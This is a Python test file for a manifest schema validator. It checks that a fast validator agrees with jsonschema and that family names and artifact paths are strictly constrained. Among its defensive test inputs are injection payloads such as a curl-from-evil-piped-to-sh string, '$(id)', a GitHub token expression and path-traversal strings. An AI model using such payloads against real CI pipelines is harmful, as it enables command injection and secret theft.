"""The schemas: complete error lists, and a fast yes that never contradicts jsonschema."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from matrixgen import schema
from matrixgen.manifest import FILES, Manifest
from matrixgen.plan import build_plan, plan_to_json
from matrixgen.quick import compile_schema
from matrixgen.source import parse

ROOT = Path(__file__).parents[2] / "manifests"
FIXED = Path(__file__).parent / "golden" / "manifests"
SCHEMAS = {name: schema.load_schema(ROOT, name) for name in schema.NAMES}
ODD: list[Any] = [
    None, True, False, 0, 1, -1, 2**70, 1.5, 1e300, "", "x", "a\n", "${{ github.token }}", "A b", "\x1b", [], [None], {},
    {"a": 1}, ["cpu", "cpu"], "null", "0" * 40, "f" * 64,
]  # fmt: skip


def load(name: str) -> Any:
    """The fixed file of that name."""
    return json.loads((FIXED / f"{name}.json").read_text(encoding="utf-8"))


def places(value: Any) -> list[tuple[Any, ...]]:
    """Paths of all values below the root."""
    found: list[tuple[Any, ...]] = []
    stack: list[tuple[tuple[Any, ...], Any]] = [((), value)]
    while stack:
        path, item = stack.pop()
        pairs = item.items() if isinstance(item, dict) else enumerate(item) if isinstance(item, list) else ()
        for key, child in pairs:
            found.append((*path, key))
            stack.append(((*path, key), child))
    return found


def mutate(data: st.DataObject, value: Any) -> None:
    """Change, remove or add one thing somewhere in a document."""
    *parents, last = data.draw(st.sampled_from(places(value)))
    target = value
    for key in parents:
        target = target[key]
    match data.draw(st.sampled_from(["replace", "remove", "add"])):
        case "replace":
            target[last] = copy.deepcopy(data.draw(st.sampled_from(ODD)))
        case "remove":
            del target[last]
        case "add" if isinstance(target, dict):
            target[data.draw(st.sampled_from(["extra", "tier", "a/b", ""]))] = copy.deepcopy(
                data.draw(st.sampled_from(ODD))
            )


@pytest.mark.parametrize("name", schema.NAMES)
def test_schemas_are_valid(name: str) -> None:
    """Each schema is itself valid JSON Schema 2020-12."""
    Draft202012Validator.check_schema(SCHEMAS[name])
    assert SCHEMAS[name]["$schema"].endswith("2020-12/schema")


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("root", [ROOT, FIXED])
def test_good_documents_take_the_fast_way(name: str, root: Path) -> None:
    """The shipped files are accepted without loading jsonschema, and jsonschema agrees."""
    data = json.loads((root / f"{name}.json").read_text(encoding="utf-8"))
    assert compile_schema(SCHEMAS[name])(data)
    assert not list(schema.validator(SCHEMAS[name]).iter_errors(data))


def test_plans_take_the_fast_way(fixed: Manifest) -> None:
    """A plan matches its schema the same way."""
    data = plan_to_json(build_plan(fixed, event="release"))
    assert compile_schema(SCHEMAS["plan"])(data)
    assert not list(schema.validator(SCHEMAS["plan"]).iter_errors(data))


def test_a_plan_may_hold_every_parameter_of_a_battery() -> None:
    """A parameter that only batteries.json may hold would make plans that nobody can read."""
    assert SCHEMAS["plan"]["$defs"]["params"] == SCHEMAS["batteries"]["$defs"]["params"]


def test_shipped_plans_match_their_schema(live: Manifest) -> None:
    """Every event of the shipped manifest gives a plan that can be read again."""
    accepts = compile_schema(SCHEMAS["plan"])
    assert [event for event in live.batteries.events if not accepts(plan_to_json(build_plan(live, event=event)))] == []


@pytest.mark.parametrize("name", FILES)
@settings(max_examples=150, deadline=None)
@given(data=st.data())
def test_fast_yes_is_jsonschemas_yes(name: str, data: st.DataObject) -> None:
    """Over mutated files, the fast check and jsonschema give the same answer."""
    value = load(name)
    for _ in range(data.draw(st.integers(1, 2))):
        mutate(data, value)
    accepted = schema.validator(SCHEMAS[name]).is_valid(value)
    assert compile_schema(SCHEMAS[name])(value) == accepted


def test_an_unknown_keyword_is_left_to_jsonschema() -> None:
    """The fast check says no rather than guess."""
    assert not compile_schema({"type": "integer", "multipleOf": 2})(4)
    assert not compile_schema({"minimum": 3})("text")
    assert not compile_schema({"$ref": "#/$defs/none"})(1)


def test_all_errors_are_reported_at_once() -> None:
    """Each with pointer, line, what is wrong and what would be right."""
    value = load("families")
    value["families"][0]["tier"] = 7
    value["families"][1]["shape"] = "round"
    del value["families"][2]["wire"]["q8"]
    value["families"][3]["extra"] = 1
    value["families"][4]["artifact"] = "a file"
    text = json.dumps(value, indent=1)
    findings = schema.check(parse("families.json", text), SCHEMAS["families"])
    assert [finding.pointer for finding in findings] == [
        "/families/0/tier",
        "/families/1/shape",
        "/families/2/wire",
        "/families/3",
        "/families/4/artifact",
    ]
    lines = text.splitlines()
    assert '"tier": 7' in lines[findings[0].line - 1]
    assert '"shape": "round"' in lines[findings[1].line - 1]
    assert "at most 3" in findings[0].fix
    assert "dense" in findings[1].fix
    assert "q8" in findings[2].message
    assert "extra" in findings[3].message


@pytest.mark.parametrize(
    ("name", "key"), [("families", "families"), ("runners", "runners"), ("pin", "patches"), ("batteries", "events")]
)
def test_null_instead_of_a_list_names_the_path(name: str, key: str) -> None:
    """A6: null is a schema error at its own pointer, not an empty list."""
    value = load(name)
    value[key] = None
    (finding,) = schema.check(parse(f"{name}.json", json.dumps(value)), SCHEMAS[name])
    assert finding.pointer == f"/{key}"
    assert "null" in finding.message


def test_pattern_end_is_the_end() -> None:
    """A name with a line feed at its end is refused by both checks."""
    value = load("families")
    value["families"][0]["family"] += "\n"
    assert not compile_schema(SCHEMAS["families"])(value)
    assert not schema.validator(SCHEMAS["families"]).is_valid(value)


@pytest.mark.parametrize(
    "name", ['x";curl evil|sh;#', "$(id)", "${{ github.token }}", "a b", "A", "-x", "é", "a\nb", ""]
)
def test_names_cannot_carry_code(name: str) -> None:
    """A31: a family name is a strict id, so nothing can be injected through a matrix."""
    value = load("families")
    value["families"][0]["family"] = name
    findings = schema.check(parse("families.json", json.dumps(value)), SCHEMAS["families"])
    assert [finding.pointer for finding in findings] == ["/families/0/family"]


@pytest.mark.parametrize("path", ["../up.gguf", "/abs.gguf", "a/../b", "a//b", "a\\b", "-rf", "a b", ".hidden"])
def test_file_paths_stay_inside(path: str) -> None:
    """A path of an artifact is relative, plain, and cannot leave its folder."""
    value = load("families")
    row = next(row for row in value["families"] if row["artifact"] and row["artifact"]["files"])
    row["artifact"]["files"] = {path: {"size": 1, "sha256": "0" * 64}}
    assert schema.check(parse("families.json", json.dumps(value)), SCHEMAS["families"])


def test_deep_nesting_in_a_wrong_document_is_one_finding() -> None:
    """What json still reads, but no schema asks for, is refused before it can exhaust the stack."""
    text = '{"schema_version": 1, "families": ' + "[" * 300 + "]" * 300 + "}"
    findings = schema.check(parse("families.json", text), SCHEMAS["families"])
    assert [finding.id for finding in findings] == ["MG004"]
